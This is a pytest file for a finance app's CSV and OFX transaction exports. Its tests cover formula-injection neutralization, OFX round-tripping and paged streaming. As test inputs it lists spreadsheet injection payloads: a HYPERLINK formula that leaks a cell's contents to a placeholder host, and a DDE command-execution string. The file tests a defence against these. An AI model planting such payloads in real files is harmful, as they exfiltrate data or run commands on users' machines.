"""Exports: formula injection neutralized, OFX that reads back, and page-at-a-time streaming."""

from __future__ import annotations

import csv
import io
from collections.abc import AsyncIterator
from datetime import date

import pytest
from world import World, run

from valorize_adapters.statements import OfxStatementParser
from valorize_core.model.errors import NotFound, ValidationError
from valorize_core.model.exports import csv_lines, neutralize
from valorize_core.model.money import Money, currency
from valorize_core.model.statements.rows import ParsedStatement, StatementRow
from valorize_core.use_cases.actions.import_statement import StatementUpload
from valorize_core.use_cases.queries.export_transactions import TransactionExport
from valorize_core.use_cases.queries.list_transactions import TransactionQuery


async def collect(chunks: AsyncIterator[bytes]) -> list[bytes]:
    return [chunk async for chunk in chunks]


@pytest.mark.parametrize(
    ("cell", "written"),
    [
        ('=HYPERLINK("http://x/?"&A1)', '\'=HYPERLINK("http://x/?"&A1)'),
        ("+55 11 9999", "'+55 11 9999"),
        ("-cmd|' /C calc'!A0", "'-cmd|' /C calc'!A0"),
        ("@SUM(A1:A2)", "'@SUM(A1:A2)"),
        ("\t=1+1", "'\t=1+1"),
        ("-12.50", "-12.50"),
        ("PADARIA", "PADARIA"),
        ("", ""),
    ],
)
def test_formula_cells_are_neutralized_and_numbers_kept(cell: str, written: str) -> None:
    assert neutralize(cell) == written
    assert next(csv.reader(io.StringIO(csv_lines([[cell]])))) == [written]


def _import(world: World, rows: list[tuple[date, str, str]]) -> None:
    brl = currency("BRL")
    parsed = ParsedStatement(
        tuple(StatementRow(i, d, text, Money.parse(amount, brl)) for i, (d, text, amount) in enumerate(rows, 1)), ()
    )
    run(world.vz.import_statement(StatementUpload(world.tenant, world.checking, "s.csv", parsed)))


def test_csv_export_has_every_transaction_once_and_neutralized(world: World) -> None:
    _import(world, [(date(2026, 11, 3), "=1+2 PADARIA", "-12.50"), (date(2026, 11, 4), "SALARIO", "1234.56")])
    chunks = run(collect(run(world.vz.export_transactions(TransactionExport(TransactionQuery(world.tenant))))))
    rows = list(csv.DictReader(io.StringIO(b"".join(chunks).decode())))
    assert [(r["booked_on"], r["description"], r["amount"], r["account"]) for r in rows] == [
        ("2026-11-04", "SALARIO", "1234.56", "Checking"),
        ("2026-11-03", "'=1+2 PADARIA", "-12.50", "Checking"),
    ]


def test_a_large_export_is_streamed_one_page_at_a_time(world: World) -> None:
    _import(world, [(date(2026, 1, 1 + i % 28), f"ROW {i}", "-1.00") for i in range(1200)])
    chunks = run(collect(run(world.vz.export_transactions(TransactionExport(TransactionQuery(world.tenant))))))
    assert len(chunks) == 1 + 3  # the header, then three pages of at most 500
    assert max(len(c) for c in chunks) < 500 * 200
    assert sum(c.count(b"\r\n") for c in chunks) == 1201


def test_ofx_export_reads_back_as_the_same_statement(world: World) -> None:
    _import(world, [(date(2026, 11, 3), "PADARIA <REAL> & CIA", "-12.50"), (date(2026, 11, 4), "SALARIO", "1234.56")])
    export = TransactionExport(TransactionQuery(world.tenant, account_id=world.checking), "ofx")
    content = b"".join(run(collect(run(world.vz.export_transactions(export)))))
    parsed = OfxStatementParser().parse(content, currency("BRL"), {})
    assert parsed.errors == ()
    # NAME is the payee, MEMO the description when it differs; the parser reads them joined
    assert sorted((r.booked_on, r.amount.minor, r.payee, r.description) for r in parsed.rows) == [
        (date(2026, 11, 3), -1250, "Padaria Real Cia", "Padaria Real Cia PADARIA <REAL> & CIA"),
        (date(2026, 11, 4), 123456, "Salario", "Salario SALARIO"),
    ]
    assert parsed.closing_balance is not None
    assert parsed.closing_balance.amount.minor == 100000 - 1250 + 123456


def test_bad_exports_are_refused_before_anything_is_sent(world: World) -> None:
    with pytest.raises(ValidationError):
        run(world.vz.export_transactions(TransactionExport(TransactionQuery(world.tenant), "ofx")))
    with pytest.raises(ValidationError):
        run(world.vz.export_transactions(TransactionExport(TransactionQuery(world.tenant, amount_min="x"))))
    unknown = TransactionQuery(world.tenant, account_id=world.food)
    with pytest.raises(NotFound):
        run(world.vz.export_transactions(TransactionExport(unknown, "ofx")))
